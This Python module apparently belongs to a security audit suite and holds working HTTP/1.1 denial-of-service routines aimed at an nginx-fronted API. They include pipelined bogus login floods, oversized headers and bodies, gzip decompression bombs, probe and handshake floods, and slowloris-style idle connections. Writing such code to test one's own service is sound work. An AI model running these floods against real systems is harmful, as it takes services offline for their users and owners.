"""Floods over HTTP/1.1; each function is one thread of an attacker, until the door is over."""

from __future__ import annotations

import base64
import gzip
import secrets
import ssl

from audit.attacks.door import Door

CAP = 32 * 1024 * 1024  # client_max_body_size
KEPT = 5000  # idle connections
PIPELINE = 20  # requests in one connection
PAUSE = 0.1  # seconds


def head(door: Door, method: str, path: str, *lines: str) -> bytes:
    return "\r\n".join([f"{method} {path} HTTP/1.1", f"Host: {door.host}", *lines, "", ""]).encode()


def pipelined(door: Door, *lines: str) -> bytes:
    """Requests for /models; the last one ends the connection."""
    one = head(door, "GET", "/models", *lines)
    return one * (PIPELINE - 1) + head(door, "GET", "/models", *lines, "Connection: close")


def bad_logins(door: Door) -> None:
    """Wrong passwords for the right user: each would cost a hash."""
    while door.open:
        made_up = base64.b64encode(f"admin:{secrets.token_hex(12)}".encode()).decode()
        door.send(pipelined(door, f"Authorization: Basic {made_up}"))


def bad_keys(door: Door) -> None:
    while door.open:
        door.send(pipelined(door, f"Authorization: Bearer inf-{secrets.token_hex(24)}"))


def long_credentials(door: Door) -> None:
    """64 KiB of Authorization."""
    request = head(door, "GET", "/models", f"Authorization: Bearer {'a' * 65536}")
    while door.open:
        door.send(request)


def full_bodies(door: Door, *lines: str, piece: bytes = bytes(65536), length: int = CAP) -> None:
    """Bodies as large as are taken, by somebody without a credential."""
    lines = (f"Content-Length: {length}", "Connection: close", *lines)
    request = head(door, "POST", "/v1/embeddings", *lines)
    while door.open:
        door.count("begun")
        door.send(request, *[piece] * (length // len(piece)))


def zipped_bodies(door: Door) -> None:
    """Each would be a gigabyte once unpacked."""
    piece = gzip.compress(bytes(1 << 20))
    kind = ("Content-Encoding: gzip", "Content-Type: application/json")
    full_bodies(door, *kind, piece=piece, length=1024 * len(piece))


def probes(door: Door) -> None:
    """What is open to everybody and asks the server behind nginx."""
    asked = (head(door, "GET", "/readyz") + head(door, "GET", "/health")) * (PIPELINE // 2)
    while door.open:
        door.send(asked + head(door, "GET", "/readyz", "Connection: close"))


def handshakes(door: Door) -> None:
    """A new connection each time, with nothing asked but the end."""
    while door.open:
        door.send(head(door, "GET", "/healthz", "Connection: close"))


def idle(door: Door, share: int) -> None:
    """Connections that have asked once and then say nothing, opened again when they are ended."""
    kept: list[ssl.SSLSocket] = []
    while door.open:
        if len(kept) == share:
            door.over.wait(PAUSE)
            continue
        try:
            connection = door.connect()
            connection.sendall(head(door, "GET", "/healthz"))
            connection.recv(4096)
        except OSError as error:
            door.count(type(error).__name__)
        else:
            kept.append(connection)
            door.count("opened")
    for connection in kept:
        door.count("kept", _alive(connection))
        connection.close()


def _alive(connection: ssl.SSLSocket) -> bool:
    """Whether the other side keeps it."""
    connection.settimeout(0)
    try:
        return connection.recv(1) != b""
    except ssl.SSLWantReadError:
        return True
    except OSError:
        return False
